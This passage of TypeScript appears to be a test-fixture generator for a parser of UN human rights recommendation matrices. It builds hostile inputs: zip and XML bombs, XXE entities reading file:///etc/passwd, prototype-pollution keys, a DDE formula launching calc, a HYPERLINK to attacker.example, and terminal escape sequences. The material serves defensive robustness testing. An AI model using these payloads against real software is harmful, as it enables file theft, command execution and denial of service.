  const add = (f: Omit<BadFixture, "bytes"> & { bytes: Uint8Array | string }) => out.push({ ...f, bytes: typeof f.bytes === "string" ? utf8(f.bytes) : f.bytes });

  // --- damaged zips --------------------------------------------------------------------------
  add({ file: "docx-truncated.docx", what: "A valid matrix .docx cut at 55% of its bytes (an interrupted download): the zip directory is gone.", codes: ["corrupt-file"], exit: 2, bytes: validDocx.subarray(0, Math.floor(validDocx.length * 0.55)) });
  add({ file: "xlsx-truncated.xlsx", what: "A valid matrix .xlsx cut at 60% of its bytes.", codes: ["corrupt-file"], exit: 2, bytes: validXlsx.subarray(0, Math.floor(validXlsx.length * 0.6)) });
  {
    const stored = zip([{ name: "[Content_Types].xml", data: utf8(DOCX_TYPES) }, { name: "_rels/.rels", data: utf8(DOCX_RELS) }, { name: "word/document.xml", data: utf8(documentXml(table(MATRIX))), store: true }]);
    add({ file: "docx-crc-mismatch.docx", what: "word/document.xml stored uncompressed with one letter changed: still well-formed XML, but its CRC-32 no longer matches (silent corruption on a disk or in transit).", codes: ["corrupt-file"], exit: 2, bytes: flipInEntry(stored, "word/document.xml", 400) });
  }
  add({
    file: "docx-bad-deflate.docx",
    what: "word/document.xml whose deflate stream is random bytes (declared sizes and CRC look fine).",
    codes: ["corrupt-file"],
    exit: 2,
    bytes: zip([{ name: "[Content_Types].xml", data: utf8(DOCX_TYPES) }, { name: "_rels/.rels", data: utf8(DOCX_RELS) }, { name: "word/document.xml", raw: { bytes: randomBytes(3000, 1), size: 9000, crc: 0x12345678 } }]),
  });
  add({
    file: "xlsx-bad-deflate.xlsx",
    what: "The worksheet's deflate stream is random bytes.",
    codes: ["corrupt-file"],
    exit: 2,
    bytes: zip([
      { name: "[Content_Types].xml", data: utf8(XLSX_TYPES) },
      { name: "_rels/.rels", data: utf8(XLSX_RELS) },
      { name: "xl/workbook.xml", data: utf8(`<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Matrix" sheetId="1" r:id="rId1"/></sheets></workbook>`) },
      { name: "xl/_rels/workbook.xml.rels", data: utf8(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`) },
      { name: "xl/worksheets/sheet1.xml", raw: { bytes: randomBytes(2000, 2), size: 6000, crc: 0x9abcdef0 } },
    ]),
  });
  add({ file: "docx-no-document.docx", what: "A zip with [Content_Types].xml and styles but no word/document.xml.", codes: ["corrupt-file"], exit: 2, bytes: zip([{ name: "[Content_Types].xml", data: utf8(DOCX_TYPES) }, { name: "word/styles.xml", data: utf8(`<?xml version="1.0"?><w:styles ${W_NS}/>`) }]) });
  add({ file: "docx-malformed-xml.docx", what: "word/document.xml is not well formed (a cell closed twice, a paragraph never closed).", codes: ["corrupt-file"], exit: 2, bytes: zip([{ name: "[Content_Types].xml", data: utf8(DOCX_TYPES) }, { name: "_rels/.rels", data: utf8(DOCX_RELS) }, { name: "word/document.xml", data: utf8(documentXml(table(MATRIX)).replace("</w:tc>", "</w:tc></w:tc>").replace("</w:body>", "<w:p></w:body>")) }]) });
  add({ file: "xlsx-malformed-xml.xlsx", what: "The worksheet XML is not well formed (an unclosed <row>).", codes: ["corrupt-file"], exit: 2, bytes: xlsx([{ name: "Matrix", data: rowsXml(MATRIX).replace("</row>", "") }]) });
  add({ file: "docx-no-table.docx", what: "A valid Word document with paragraphs and no table (the national report, not the matrix).", codes: ["no-table"], exit: 2, bytes: docx([para("National report submitted in accordance with paragraph 5 of the annex to Human Rights Council resolution 16/21"), para("I. Methodology and consultation process")].join("")) });
  add({ file: "docx-empty-table.docx", what: "A matrix table with its header row and nothing else.", codes: ["no-recommendations"], exit: 1, bytes: docx(table([HEADER])) });

  // --- zip bombs -----------------------------------------------------------------------------
  {
    // Honest bombs must declare more than limits.maxBytes (512 MiB): 9 x 66 MiB. Lying ones only need to
    // expand past what they declare.
    const kernel = spacesKernel(66);
    const small = spacesKernel(16);
    const parts = ["word/document.xml", ...Array.from({ length: 8 }, (_, i) => `word/header${i + 1}.xml`)];
    add({
      file: "docx-zip-bomb.docx",
      what: "A 'better zip bomb': nine directory entries (document and page headers) share one deflate stream of 66 MiB of spaces; the directory honestly declares 594 MiB in a file of 66 KB. Refused from the directory, before inflating anything.",
      codes: ["limit-exceeded"],
      exit: 1,
      bytes: zip([{ name: "[Content_Types].xml", data: utf8(DOCX_TYPES) }, { name: "_rels/.rels", data: utf8(DOCX_RELS) }, { name: parts[0]!, raw: kernel }, ...parts.slice(1).map((n) => ({ name: n, sameAs: parts[0]! }))]),
    });
    add({
      file: "docx-zip-bomb-lying.docx",
      what: "Nine entries sharing one deflate stream of 16 MiB, and the directory lies: each declares 2 KB. Inflating stops a few kilobytes past the declared size.",
      codes: ["corrupt-file"],
      exit: 2,
      bytes: zip([{ name: "[Content_Types].xml", data: utf8(DOCX_TYPES) }, { name: "_rels/.rels", data: utf8(DOCX_RELS) }, { name: parts[0]!, raw: small, declaredSize: 2048 }, ...parts.slice(1).map((n) => ({ name: n, sameAs: parts[0]!, declaredSize: 2048 }))]),
    });
    const sheets = Array.from({ length: 9 }, (_, i) => `xl/worksheets/sheet${i + 1}.xml`);
    const book = `<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>${sheets.map((_, i) => `<sheet name="S${i + 1}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`).join("")}</sheets></workbook>`;
    const rels = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${sheets.map((s, i) => `<Relationship Id="rId${i + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="${s.slice(3)}"/>`).join("")}</Relationships>`;
    const head = [{ name: "[Content_Types].xml", data: utf8(XLSX_TYPES) }, { name: "_rels/.rels", data: utf8(XLSX_RELS) }, { name: "xl/workbook.xml", data: utf8(book) }, { name: "xl/_rels/workbook.xml.rels", data: utf8(rels) }];
    add({ file: "xlsx-zip-bomb.xlsx", what: "Nine worksheets sharing one 66 MiB deflate stream, sizes declared honestly (594 MiB).", codes: ["limit-exceeded"], exit: 1, bytes: zip([...head, { name: sheets[0]!, raw: kernel }, ...sheets.slice(1).map((n) => ({ name: n, sameAs: sheets[0]! }))]) });
    add({ file: "xlsx-zip-bomb-lying.xlsx", what: "Nine worksheets sharing one 16 MiB deflate stream, each declaring 4 KB (JSZip, under exceljs, would have inflated all 144 MiB).", codes: ["corrupt-file"], exit: 2, bytes: zip([...head, { name: sheets[0]!, raw: small, declaredSize: 4096 }, ...sheets.slice(1).map((n) => ({ name: n, sameAs: sheets[0]!, declaredSize: 4096 }))]) });
  }
  add({ file: "docx-too-many-entries.docx", what: "A valid small .docx whose end-of-directory record claims 65,535 entries (limits.maxZipEntries is 10,000).", codes: ["limit-exceeded"], exit: 1, bytes: zip([{ name: "[Content_Types].xml", data: utf8(DOCX_TYPES) }, { name: "_rels/.rels", data: utf8(DOCX_RELS) }, { name: "word/document.xml", data: utf8(documentXml(table(MATRIX))) }], { declaredCount: 65535 }) });

  // --- XML bombs and external entities -------------------------------------------------------
  add({ file: "docx-billion-laughs.docx", what: "word/document.xml declares the 'billion laughs' entities (10^9 'lol' from 1 KB) and uses &lol9; in a cell.", codes: ["unsafe-xml"], exit: 2, bytes: docx(table([HEADER, ["117.1 &lol9; (Denmark);", "Supported", "", ""]]).replace("&amp;lol9;", "&lol9;"), [], BILLION_LAUGHS) });
  add({ file: "docx-external-entity.docx", what: "word/document.xml declares external entities (file:///etc/passwd, an http URL) and uses them in a cell.", codes: ["unsafe-xml"], exit: 2, bytes: docx(table([HEADER, ["117.1 &xxe; &remote; (Denmark);", "Supported", "", ""]]).replace("&amp;xxe; &amp;remote;", "&xxe; &remote;"), [], XXE) });
  add({ file: "xlsx-billion-laughs.xlsx", what: "The worksheet declares the billion-laughs entities and uses &lol9; in a cell.", codes: ["unsafe-xml"], exit: 2, bytes: xlsx([{ name: "Matrix", data: rowsXml([HEADER]) + `<row r="2">${inlineCell("A2", "117.1 X (Denmark);").replace("117.1 X", "117.1 &lol9;")}</row>`, prolog: BILLION_LAUGHS }]) });
  add({ file: "xlsx-external-entity.xlsx", what: "xl/workbook.xml declares an external entity and names a sheet with it.", codes: ["unsafe-xml"], exit: 2, bytes: (() => {
    const good = xlsx([{ name: "XXE_NAME", data: rowsXml(MATRIX) }]);
    // Rebuild with the workbook part carrying the DTD.
    const book = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>${XXE}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="&xxe;" sheetId="1" r:id="rId1"/></sheets></workbook>`;
    void good;
    return zip([
      { name: "[Content_Types].xml", data: utf8(XLSX_TYPES) },
      { name: "_rels/.rels", data: utf8(XLSX_RELS) },
      { name: "xl/workbook.xml", data: utf8(book) },
      { name: "xl/_rels/workbook.xml.rels", data: utf8(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`) },
      { name: "xl/worksheets/sheet1.xml", data: utf8(`<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rowsXml(MATRIX)}</sheetData></worksheet>`) },
    ]);
  })() });
  add({ file: "docx-deep-nesting.docx", what: "100,000 tables nested one inside the other (folding each level into its parent cell would take quadratic time); limits.maxDepth is 256.", codes: ["limit-exceeded"], exit: 1, bytes: docx("<w:tbl><w:tr><w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p>".repeat(100_000) + "</w:tc></w:tr></w:tbl>".repeat(100_000)) });
  add({ file: "xlsx-deep-nesting.xlsx", what: "A worksheet with 100,000 nested elements inside a cell.", codes: ["limit-exceeded"], exit: 1, bytes: xlsx([{ name: "Matrix", data: rowsXml(MATRIX) + `<row r="10"><c r="A10" t="inlineStr"><is>${"<r>".repeat(100_000)}${"</r>".repeat(100_000)}</is></c></row>` }]) });
  add({ file: "docx-span-bomb.docx", what: "A table of 6,000 rows × 60 cells that each span 63 grid columns: 22.7 million grid cells from 150 KB (limits.maxCells is 20 million).", codes: ["limit-exceeded"], exit: 1, bytes: docx(`<w:tbl>${`<w:tr>${'<w:tc><w:tcPr><w:gridSpan w:val="63"/></w:tcPr><w:p/></w:tc>'.repeat(60)}</w:tr>`.repeat(6000)}</w:tbl>`) });

  // --- not what the name says ----------------------------------------------------------------
  add({ file: "docx-is-doc.docx", what: "A legacy binary Word file (OLE compound file with a WordDocument stream) renamed .docx.", codes: ["unsupported-format"], exit: 2, bytes: compoundFile([{ name: "WordDocument", data: randomBytes(4096, 3) }, { name: "1Table", data: randomBytes(4096, 4) }]) });
  add({ file: "docx-is-pdf.docx", what: "A PDF of the matrix renamed .docx.", codes: ["unsupported-format"], exit: 2, bytes: pdf("Matrix of recommendations - 117.1 Ratify OP-CAT (Denmark) - Supported") });
  add({ file: "docx-is-rtf.docx", what: "An RTF document renamed .docx.", codes: ["unsupported-format"], exit: 2, bytes: "{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}}\\f0 117.1 Ratify OP-CAT (Denmark) Supported\\par}" });
  add({ file: "docx-is-odt.docx", what: "An OpenDocument text (zip with a mimetype entry) renamed .docx.", codes: ["unsupported-format"], exit: 2, bytes: zip([{ name: "mimetype", data: utf8("application/vnd.oasis.opendocument.text"), store: true }, { name: "content.xml", data: utf8('<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>') }]) });
  add({ file: "docx-encrypted.docx", what: "A password-protected Word document: an OLE compound file with EncryptionInfo and EncryptedPackage streams.", codes: ["unsupported-format"], exit: 2, bytes: compoundFile([{ name: "EncryptionInfo", data: randomBytes(4096, 5) }, { name: "EncryptedPackage", data: randomBytes(8192, 6) }]) });
  add({ file: "xlsx-is-xls.xlsx", what: "A legacy .xls workbook (OLE compound file with a Workbook stream) renamed .xlsx.", codes: ["unsupported-format"], exit: 2, bytes: compoundFile([{ name: "Workbook", data: randomBytes(4096, 7) }]) });
  add({ file: "xlsx-encrypted.xlsx", what: "A password-protected workbook (EncryptionInfo + EncryptedPackage).", codes: ["unsupported-format"], exit: 2, bytes: compoundFile([{ name: "EncryptionInfo", data: randomBytes(4096, 8) }, { name: "EncryptedPackage", data: randomBytes(8192, 9) }]) });
  add({ file: "xlsx-random-bytes.xlsx", what: "16 KB of random bytes named .xlsx.", codes: ["unsupported-format"], exit: 2, bytes: randomBytes(16384, 10) });
  add({ file: "csv-binary-garbage.csv", what: "16 KB of random bytes named .csv.", codes: ["unsupported-format"], exit: 2, bytes: randomBytes(16384, 11) });
  add({ file: "csv-nul-bytes.csv", what: "A CSV export with NUL bytes inside a field (a damaged export): treated as binary, not guessed at.", codes: ["unsupported-format"], exit: 2, bytes: concat([utf8(csv([CSV_HEADER, CSV_ROWS[0]!])), new Uint8Array([0, 0, 0, 0]), utf8(csv(CSV_ROWS.slice(1)))]) });

  // --- CSV -----------------------------------------------------------------------------------
  add({ file: "csv-empty.csv", what: "An empty file (0 bytes).", codes: ["empty-file"], exit: 2, bytes: new Uint8Array(0) });
  add({ file: "csv-whitespace-only.csv", what: "Only spaces and line breaks.", codes: ["empty-file"], exit: 2, bytes: "   \r\n\r\n \t \r\n" });
  add({ file: "csv-headers-only.csv", what: "A header row and nothing else (a template).", codes: ["no-recommendations"], exit: 1, bytes: csv([CSV_HEADER]) });
  add({ file: "csv-unbalanced-quotes.csv", what: "A quoted field opened and never closed on record 3: the rest of the file falls into that field.", codes: ["csv-quotes"], exit: 1, bytes: `${csv([CSV_HEADER, CSV_ROWS[0]!])}117.2,"Abolish the death penalty,France,Noted\r\n${csv(CSV_ROWS.slice(2))}` });
  add({ file: "csv-mixed-delimiters.csv", what: "A comma-separated header and rows, then rows pasted from a semicolon-separated export: each of those comes out as one cell in the Paragraph column, reported and not read as a recommendation.", codes: ["unparsed-row"], exit: 0, strictExit: 1, bytes: csv([CSV_HEADER, ...CSV_ROWS.slice(0, 2)]) + csv([["117.9", "Ensure access to justice for persons with disabilities", "Chile", "Supported"], ["117.10", "Combat trafficking in persons", "Italy", "Noted"]], ";") });
  add({ file: "csv-long-cell.csv", what: "A recommendation text of 150,000 characters (limits.maxCellLength is 100,000): cut and reported.", codes: ["limit-exceeded"], exit: 0, strictExit: 1, bytes: csv([CSV_HEADER, CSV_ROWS[0]!, ["117.2", `Abolish the death penalty ${"and ensure due process ".repeat(6600)}`.slice(0, 150_000), "France", "Noted"]]) });
  add({ file: "csv-utf16le-no-bom.csv", what: "UTF-16LE without a byte-order mark, tab-separated, accents: read correctly, with a note that the encoding was guessed.", codes: ["encoding-guessed"], exit: 0, bytes: utf16(csv([CSV_HEADER, ["117.1", "Garantir l'accès à la justice", "Côte d’Ivoire", "Supported"], ["117.2", "Protéger les défenseurs", "Türkiye", "Noted"]], "\t"), false) });
  add({ file: "csv-utf16be-no-bom.csv", what: "UTF-16BE without a byte-order mark.", codes: ["encoding-guessed"], exit: 0, bytes: utf16(csv([CSV_HEADER, ["117.1", "Garantir l'accès à la justice", "Côte d’Ivoire", "Supported"]], "\t"), true) });
  add({ file: "csv-windows-1252.csv", what: "Windows-1252 bytes (é, ñ, ’, “ ”, –) saved by Excel on Windows: read correctly, with a note.", codes: ["encoding-guessed"], exit: 0, bytes: windows1252(csv([["Nº", "Recomendación", "Estado recomendante", "Posición"], ["115.1", "Garantizar el acceso a la educación – “sin discriminación” de niños y niñas", "España", "Aceptada"], ["115.2", "Adoptar medidas contra la violencia de género’", "México", "Anotada"]], ";")) });
  add({ file: "csv-proto-headers.csv", what: "Column headers __proto__, constructor, prototype and nothing that names the recommendation: no layout found, and no pollution.", codes: ["unknown-layout"], exit: 1, bytes: csv([["__proto__", "constructor", "prototype"], ["Ratify OP-CAT", "Supported", "toString"], ['{"polluted":true}', "valueOf", "hasOwnProperty"]]) });
  add({ file: "csv-proto-themes.csv", what: "A readable sheet whose extra columns are named __proto__, constructor and prototype, and whose theme cells name __proto__, constructor, toString, hasOwnProperty.", codes: ["unknown-theme"], exit: 0, bytes: csv([["Recommendation", "Position", "Themes", "__proto__", "constructor", "prototype"], ["117.1 Ratify OP-CAT (Denmark);", "Supported", "__proto__; constructor", '{"polluted":true}', "x", "y"], ["117.2 Abolish the death penalty (France);", "Noted", "toString; hasOwnProperty; valueOf", "__proto__", "prototype", "constructor"]]) });
  add({ file: "csv-formula-injection.csv", what: "Recommendation and assessment cells that start with = + - @ tab and CR (spreadsheet formula injection) and an HTML payload: read as text; every export neutralises them.", codes: [], exit: 0, bytes: csv([["Paragraph", "Recommendation", "Recommending State", "Response", "Assessment"], ...INJECTIONS.map((v, i) => [`117.${i + 1}`, v, "Denmark", "Supported", v])]) });
  add({ file: "csv-duplicate-ids.csv", what: "Paragraph 117.2 twice with the same response, 117.3 twice with different responses.", codes: ["duplicate-id", "conflicting-position"], exit: 0, strictExit: 1, bytes: csv([CSV_HEADER, ...CSV_ROWS, CSV_ROWS[1]!, [...CSV_ROWS[2]!.slice(0, 3), "Noted"]]) });
  add({ file: "csv-out-of-order-ids.csv", what: "Paragraph ids out of order (117.10 before 117.2, 118.1 before 117.3): kept in file order, nothing to report.", codes: [], exit: 0, bytes: csv([CSV_HEADER, ["117.10", "Combat trafficking in persons", "Italy", "Supported"], ["117.2", "Abolish the death penalty", "France", "Noted"], ["118.1", "Cooperate with special procedures", "Chile", "Supported"], ["117.3", "Strengthen the NHRI", "Ghana", "Supported"]]) });
  add({ file: "csv-unknown-language.csv", what: "Responses in German, Russian, Chinese and Arabic: read as unknown positions, each reported.", codes: ["unknown-position"], exit: 0, strictExit: 1, bytes: csv([CSV_HEADER, ["117.1", "Ratify OP-CAT", "Denmark", "Unterstützt"], ["117.2", "Abolish the death penalty", "France", "Принята к сведению"], ["117.3", "Strengthen the NHRI", "Ghana", "支持"], ["117.4", "Adopt a plan", "Spain", "مؤيدة"]]) });

  add({
    file: "csv-multiline-cells.csv",
    what: "Header cells holding line breaks and a terminal escape sequence (ESC [2J clears the screen), and no column that names the recommendation: the unknown-layout message quotes them, and must stay one harmless line. Found by the fuzzer.",
    codes: ["unknown-layout"],
    exit: 1,
    bytes: csv([["État\r\nrecommandant", "Texte\u001b[2J\u001b]0;owned\u0007", "Ref\nnumber"], ["Danemark", "Ratifier le Protocole facultatif se rapportant à la Convention contre la torture", "a"], ["France", "Abolir la peine de mort en toutes circonstances", "b"], ["Ghana", "Renforcer l'institution nationale des droits de l'homme", "c"], ["Espagne", "Adopter un plan d'action national contre la violence fondée sur le genre", "d"]]),
  });
  add({
    file: "csv-invalid-numbers.csv",
    what: "A session of 0 and a cycle of 99999999999999999999: neither is a positive integer, so the recommendation would break the schema. Found by the fuzzer.",
    codes: ["invalid-field"],
    exit: 0,
    strictExit: 1,
    bytes: csv([["Paragraph", "Recommendation", "Response", "Session", "Cycle"], ["117.1", "Ratify OP-CAT", "Supported", "0", "99999999999999999999"], ["117.2", "Abolish the death penalty", "Noted", "26", "2"]]),
  });

  add({
    file: "csv-continuation-run.csv",
    what: "A list of 1,000 recommendation texts with no id, no position and no final punctuation. Found by the fuzzer: each row once read as the continuation of the one before, all joined into one recommendation in quadratic time (4,000 rows took 12 s). Only a recommendation with a paragraph id can continue over (at most 5) rows, so each row is a recommendation.",
    codes: [],
    exit: 0,
    minRecommendations: 1000,
    bytes: csv([["Recommendation"], ...Array.from({ length: 1000 }, (_, i) => [`take measures number ${i + 1} to protect the rights of migrants and refugees in the country`])]),
  });

  // --- XLSX content --------------------------------------------------------------------------
  add({
    file: "xlsx-proto-names.xlsx",
    what: "Sheets named __proto__ and constructor; headers __proto__, constructor, prototype beside the real ones; theme cells naming Object.prototype members. The second sheet has no recommendation column and is set aside.",
    codes: ["unknown-theme", "ignored-table"],
    exit: 0,
    bytes: xlsx([
      { name: "__proto__", data: rowsXml([["Recommendation", "Position", "Full list of themes", "__proto__", "constructor", "prototype"], ["117.1 Ratify OP-CAT (Denmark);", "Supported", "__proto__\nconstructor", '{"polluted":true}', "toString", "valueOf"], ["117.2 Abolish the death penalty (France);", "Noted", "hasOwnProperty", "", "", ""]]) },
      { name: "constructor", data: rowsXml([["__proto__", "constructor", "prototype"], ["a", "b", "c"]]) },
    ]),
  });
  add({ file: "xlsx-formulas.xlsx", what: "Formula cells with saved results (read by their result, never evaluated) and text cells starting with = + - @.", codes: ["formula-cell"], exit: 0, bytes: xlsx([{ name: "Matrix", data: rowsXml([HEADER, ...INJECTIONS.slice(0, 4).map((v, i) => [`117.${i + 1} ${v}`, "Supported", "", v])]) + `<row r="6"><c r="A6" t="str"><f>CONCATENATE("117.5 ","Ratify OP-CAT (Denmark);")</f><v>117.5 Ratify OP-CAT (Denmark);</v></c><c r="B6" t="str"><f>HYPERLINK("http://attacker.example","Supported")</f><v>Supported</v></c><c r="D6"><f>cmd|' /C calc'!A0</f><v>0</v></c></row>` }]) });
  add({ file: "xlsx-million-rows.xlsx", what: "A header, two recommendations and a blank cell far down at row 1,048,576: a million empty rows (Excel's used range), counted as one run of blank rows.", codes: ["blank-row"], exit: 0, bytes: xlsx([{ name: "Matrix", data: rowsXml([HEADER, ...RECS.slice(0, 2)]) + `<row r="1048576"><c r="A1048576" t="inlineStr"><is><t xml:space="preserve">   </t></is></c></row>` }]) });
  add({ file: "xlsx-far-cells.xlsx", what: "1,300 rows with one value in the last column (XFD): 21 million cells once laid out (limits.maxCells is 20 million).", codes: ["limit-exceeded"], exit: 1, bytes: xlsx([{ name: "Matrix", data: rowsXml([HEADER]) + Array.from({ length: 1300 }, (_, i) => `<row r="${i + 2}">${inlineCell(`A${i + 2}`, `117.${i + 1} Ratify OP-CAT (Denmark);`)}${inlineCell(`XFD${i + 2}`, "x")}</row>`).join("") }]) });
  add({ file: "xlsx-merge-bomb.xlsx", what: "A merge over the rest of the grid (E1:XFD1048576, 17 billion cells) and the theme row's merge (A2:D2) repeated 100,000 times: exceljs would run out of memory or take hours; merges are clipped to the cells in use and each cell written is counted.", codes: [], exit: 0, bytes: xlsx([{ name: "Matrix", data: rowsXml(MATRIX), after: `<mergeCells count="100001"><mergeCell ref="E1:XFD1048576"/>${'<mergeCell ref="A2:D2"/>'.repeat(100_000)}</mergeCells>` }]) });
  add({ file: "xlsx-validation-bomb.xlsx", what: "A data validation over the whole grid and a defined name over the whole grid (exceljs expands both cell by cell): never read.", codes: [], exit: 0, bytes: xlsx([{ name: "Matrix", data: rowsXml(MATRIX), after: '<dataValidations count="1"><dataValidation type="list" sqref="A1:XFD1048576"><formula1>"Supported,Noted"</formula1></dataValidation></dataValidations>' }], { definedNames: "<definedNames><definedName name=\"everything\">Matrix!$A$1:$XFD$1048576</definedName><definedName name=\"__proto__\">Matrix!$A$1</definedName></definedNames>" }) });
  add({ file: "xlsx-5mb-cell.xlsx", what: "A recommendation cell of 5 MB (limits.maxCellLength is 100,000 characters): cut and reported.", codes: ["limit-exceeded"], exit: 0, strictExit: 1, bytes: xlsx([{ name: "Matrix", data: rowsXml([HEADER, RECS[0]!, [`117.2 Abolish the death penalty ${"and guarantee a fair trial ".repeat(200_000)}`.slice(0, 5 * 1024 * 1024), "Noted", "", ""]]) }]) });
  add({ file: "xlsx-hidden-only.xlsx", what: "A workbook whose only sheet with data is hidden.", codes: ["ignored-table", "no-recommendations"], exit: 1, bytes: xlsx([{ name: "Data", state: "hidden", data: rowsXml(MATRIX) }, { name: "Empty", data: "" }]) });
  add({ file: "xlsx-missing-strings.xlsx", what: "Cells pointing to shared strings 7 and 99 in a workbook that has two: read as empty and reported.", codes: ["corrupt-file"], exit: 0, strictExit: 1, bytes: xlsx([{ name: "Matrix", data: `${rowsXml(MATRIX)}<row r="7"><c r="A7" t="s"><v>7</v></c><c r="B7" t="s"><v>99</v></c></row>` }], { extra: [{ name: "xl/sharedStrings.xml", data: utf8('<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="2" uniqueCount="2"><si><t>a</t></si><si><t>b</t></si></sst>') }] }) });

  // --- DOCX content --------------------------------------------------------------------------
  add({ file: "docx-duplicate-ids.docx", what: "A matrix with 117.2 twice (same position), 117.3 twice (Supported then Noted) and ids out of order.", codes: ["duplicate-id", "conflicting-position"], exit: 0, strictExit: 1, bytes: docx(table([HEADER, THEME_ROW, RECS[2]!, RECS[0]!, RECS[1]!, RECS[1]!, [RECS[2]![0]!, "Noted", "", ""]])) });
  add({ file: "docx-unknown-language.docx", what: "Positions in German, Russian and Chinese.", codes: ["unknown-position"], exit: 0, strictExit: 1, bytes: docx(table([HEADER, [RECS[0]![0]!, "Unterstützt", "", ""], [RECS[1]![0]!, "Принята к сведению", "", ""], [RECS[2]![0]!, "支持", "", ""]])) });
  add({ file: "docx-5mb-cell.docx", what: "A recommendation cell of 5 MB in a Word table: cut to limits.maxCellLength and reported.", codes: ["limit-exceeded"], exit: 0, strictExit: 1, bytes: docx(table([HEADER, RECS[0]!, [`117.2 Abolish the death penalty ${"and guarantee a fair trial ".repeat(200_000)}`.slice(0, 5 * 1024 * 1024), "Noted", "", ""]])) });
  add({ file: "docx-formulas.docx", what: "Recommendation and assessment cells starting with = + - @ and an HTML payload: read as text; exports neutralise them.", codes: [], exit: 0, bytes: docx(table([HEADER, ...INJECTIONS.map((v, i) => [`117.${i + 1} ${v} (Denmark);`, "Supported", "", v])])) });
  add({
    file: "docx-proto-parts.docx",
    what: "Zip entries named __proto__ and constructor, a relationship whose target is __proto__, and a table whose headers are __proto__, constructor, prototype (no recommendation column).",
    codes: ["unknown-layout", "no-recommendations"],
    exit: 1,
    bytes: zip([
      { name: "[Content_Types].xml", data: utf8(DOCX_TYPES) },
      { name: "_rels/.rels", data: utf8(DOCX_RELS.replace('Target="word/document.xml"', 'Target="__proto__"')) },
      { name: "__proto__", data: utf8('{"polluted":true}') },
      { name: "constructor", data: utf8("x") },
      { name: "word/document.xml", data: utf8(documentXml(table([["__proto__", "constructor", "prototype"], ["Ratify OP-CAT", "Supported", "toString"]]))) },
    ]),
  });
  addReliabilityCases(add);
  pdfFixtures(add);
  return out;
}

/**
 * A workbook whose parts are given as zip entries: `sheets` name the sheets and the part each points to
 * (several may point to one), `entries` hold the worksheets and any shared strings.
 */
function xlsxParts(sheets: readonly { name: string; part: string }[], entries: readonly ZipInput[], sharedStrings = false): Uint8Array {
  const book = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>${sheets.map((sh, i) => `<sheet name="${xmlEscape(sh.name)}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`).join("")}</sheets></workbook>`;
  const rels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${sheets
    .map((sh, i) => `<Relationship Id="rId${i + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="${sh.part.replace(/^xl\//, "")}"/>`)
    .join("")}${sharedStrings ? `<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>` : ""}</Relationships>`;
  return zip([{ name: "[Content_Types].xml", data: utf8(XLSX_TYPES) }, { name: "_rels/.rels", data: utf8(XLSX_RELS) }, { name: "xl/workbook.xml", data: utf8(book) }, { name: "xl/_rels/workbook.xml.rels", data: utf8(rels) }, ...entries]);
}

const SHEET_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';

/** The cases of the adversarial review (RELIABILITY-DEFECTS.md, D1-D20) that a committed file can hold. */
function addReliabilityCases(add: (f: Omit<BadFixture, "bytes"> & { bytes: Uint8Array | string }) => void): void {
  // --- D1: returned tracking workbooks that killed `track import` ---------------------------------
  const returned = [["Key", "No.", "Status"], ["Kenya|2|142.23", "142.23", "In progress"]];
  add({
    file: "xlsx-returned-merge-bomb.xlsx",
    what: "A returned update workbook (Key, No., Status) with one merge from A3 to the last cell of the grid (D1): exceljs ran out of memory on it in `track import`. Read by the guarded reader, the merge is clipped to the data; for `parse` it is a sheet without a recommendation column.",
    codes: ["missing-column"],
    exit: 1,
    bytes: xlsx([{ name: "Recommendations", data: rowsXml(returned), after: '<mergeCells count="1"><mergeCell ref="A3:XFD1048576"/></mergeCells>' }]),
  });
  add({
    file: "xlsx-returned-validation-bomb.xlsx",
    what: "A returned update workbook with a data validation over the whole grid (D1): exceljs expanded it cell by cell and `track import` hung. Validations are never read.",
    codes: ["missing-column"],
    exit: 1,
    bytes: xlsx([{ name: "Recommendations", data: rowsXml(returned), after: '<dataValidations count="1"><dataValidation type="list" allowBlank="1" sqref="A1:XFD1048576"><formula1>"a,b"</formula1></dataValidation></dataValidations>' }]),
  });

  // --- D2: mixed line endings ------------------------------------------------------------------
  const rec = (i: number) => `"121.${i} Strengthen the national human rights institution number ${i} (Ghana);",Supported`;
  add({
    file: "csv-mixed-line-endings.csv",
